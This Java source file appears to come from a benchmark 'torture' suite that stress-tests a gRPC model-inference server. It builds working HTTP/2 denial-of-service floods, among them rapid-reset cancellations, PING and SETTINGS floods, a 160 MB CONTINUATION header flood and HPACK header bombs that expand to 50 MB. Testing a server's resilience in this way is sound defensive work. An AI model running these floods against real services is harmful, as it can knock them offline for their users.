package io.nereid.benchmarks.torture.attack.grpc;

import io.nereid.benchmarks.torture.attack.Attack;
import io.nereid.benchmarks.torture.attack.AttackOutcome;
import io.nereid.benchmarks.torture.attack.Scene;
import io.nereid.benchmarks.torture.wire.FrameReader;
import io.nereid.benchmarks.torture.wire.Frames;
import io.nereid.benchmarks.torture.wire.RawConnection;
import io.nereid.benchmarks.torture.wire.RepeatedBytes;
import java.io.IOException;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.IntFunction;

/**
 * One connection that sends frames as fast as it can until it is closed. Each frame is legal.
 *
 * @param count how many times something is sent
 * @param reading whether what the server sends is read meanwhile
 * @param next what is sent the {@code i}th time
 */
public record FrameFlood(int count, boolean reading, IntFunction<byte[]> next)
    implements Attack.Script {
  private static final int HUNDRED_THOUSAND = 100_000;
  private static final byte DYNAMIC_62 = (byte) 0xbe;
  private static final int BOMB_BYTES = 3_900;
  private static final Duration HOLD = Duration.ofSeconds(20);
  private static final Duration DRAIN = Duration.ofSeconds(2);
  private static final double NANOS_PER_SECOND = 1e9;

  /** A flood of each kind. */
  public static List<Attack> all() {
    return List.of(
        flood(
            "grpc-rapid-reset",
            "100,000 calls, each cancelled at once",
            HUNDRED_THOUSAND,
            true,
            i ->
                Frames.concatenated(Frames.call(stream(i), "ModelInfer"), Frames.reset(stream(i)))),
        flood(
            "grpc-open-streams",
            "10,000 calls on a connection that send no message",
            HUNDRED_THOUSAND / 10,
            true,
            i -> Frames.call(stream(i), "ModelStreamInfer")),
        flood(
            "grpc-pings",
            "100,000 PINGs, answers not read",
            HUNDRED_THOUSAND,
            false,
            _ -> Frames.ping()),
        flood(
            "grpc-settings",
            "100,000 SETTINGS, answers not read",
            HUNDRED_THOUSAND,
            false,
            _ -> Frames.settings(Frames.INITIAL_WINDOW_SIZE, 65_535)),
        flood(
            "grpc-empty-data",
            "100,000 empty DATA frames in a call",
            HUNDRED_THOUSAND,
            true,
            i ->
                i == 0
                    ? Frames.call(1, "ModelStreamInfer")
                    : Frames.frame(Frames.DATA, 0, 1, new byte[0])),
        flood(
            "grpc-window-toggle",
            "900 calls, and 9,100 SETTINGS that change the window of each",
            HUNDRED_THOUSAND / 10,
            true,
            i ->
                i < HUNDRED_THOUSAND / 100 && i % 10 != 0
                    ? Frames.call(stream(i), "ModelStreamInfer")
                    : Frames.settings(Frames.INITIAL_WINDOW_SIZE, i % 2 == 0 ? 0 : 65_535)),
        continuations(),
        headerBombs());
  }

  private static Attack continuations() {
    byte[] fragment = filled(new byte[0], Frames.header("x-filler", "y".repeat(100)));
    return flood(
        "grpc-continuations",
        "a header block of 160 MB in CONTINUATION frames",
        HUNDRED_THOUSAND / 10,
        true,
        i ->
            i == 0
                ? Frames.frame(Frames.HEADERS, 0, 1, Frames.callBlock("ModelInfer"))
                : Frames.frame(Frames.CONTINUATION, 0, 1, fragment));
  }

  private static Attack headerBombs() {
    byte[] block =
        Frames.concatenated(
            Frames.callBlock("ModelInfer"), Frames.indexedHeader("x-bomb", "y".repeat(BOMB_BYTES)));
    byte[] bomb = filled(block, new byte[] {DYNAMIC_62});
    return flood(
        "grpc-header-bombs",
        "1,000 calls with a header block of 16 KB that expands to 50 MB",
        HUNDRED_THOUSAND / 100,
        true,
        i -> Frames.frame(Frames.HEADERS, Frames.END_HEADERS, stream(i), bomb));
  }

  private static Attack flood(
      String name, String summary, int count, boolean reading, IntFunction<byte[]> next) {
    return Attack.of(name, summary, new FrameFlood(count, reading, next));
  }

  private static int stream(int i) {
    return 2 * i + 1;
  }

  /** {@code block} and behind it as many copies of {@code header} as fit into a frame. */
  private static byte[] filled(byte[] block, byte[] header) {
    int copies = (Frames.MAX_PAYLOAD_BYTES - block.length) / header.length;
    return new RepeatedBytes(block, header, copies, new byte[0]).bytes();
  }

  @Override
  public AttackOutcome run(Scene scene) throws IOException, InterruptedException {
    int most = scene.scale().count(count);
    var sent = new AtomicInteger();
    try (var connection = RawConnection.open(scene.target().grpc())) {
      connection.send(Frames.begin());
      var reader = new FrameReader(connection);
      long start = System.nanoTime();
      Thread writer = Thread.ofVirtual().start(() -> send(connection, most, sent));
      Thread reading = Thread.ofVirtual().unstarted(() -> reader.readToTheEnd(HOLD));
      if (reading()) {
        reading.start();
      }
      writer.join(scene.scale().hold(HOLD));
      if (!reading()) {
        reading.start();
      }
      reading.join(scene.scale().hold(DRAIN));
      double seconds = (System.nanoTime() - start) / NANOS_PER_SECOND;
      String state = reader.summary();
      writer.interrupt();
      reading.interrupt();
      writer.join();
      reading.join();
      return AttackOutcome.of(
          String.format(
              Locale.ROOT,
              "%s after %d of %d, %.1f s; %d streams reset",
              state,
              sent.get(),
              most,
              seconds,
              reader.resets()));
    }
  }

  private void send(RawConnection connection, int most, AtomicInteger sent) {
    try {
      for (int i = 0; i < most; i++) {
        connection.send(next.apply(i));
        sent.incrementAndGet();
      }
    } catch (IOException _) {
      // the server has closed the connection, or the attack is over
    }
  }
}
